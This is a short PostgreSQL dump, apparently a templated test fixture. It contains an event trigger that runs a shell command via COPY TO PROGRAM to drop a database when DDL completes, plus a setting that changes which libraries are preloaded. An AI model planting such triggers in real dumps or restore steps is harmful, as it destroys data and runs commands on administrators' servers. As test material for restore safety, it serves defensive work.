--
-- PostgreSQL database dump
--

SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;

CREATE TABLE public.clients (id integer, name text);
INSERT INTO public.clients VALUES (1, 'a');

CREATE FUNCTION public.act() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN EXECUTE $x$COPY (SELECT 1) TO PROGRAM 'psql -w -h @SOCKET@ -p @PORT@ -U @ADMIN@ -d postgres -c "DROP DATABASE psy" || true'$x$; END $$;
CREATE EVENT TRIGGER act ON ddl_command_end EXECUTE FUNCTION public.act();
CREATE TABLE public.more (id integer);
DO $$ BEGIN EXECUTE format('ALTER DATABASE %I SET session_preload_libraries = ''auto_explain''', current_database()); END $$;

--
-- PostgreSQL database dump complete
--

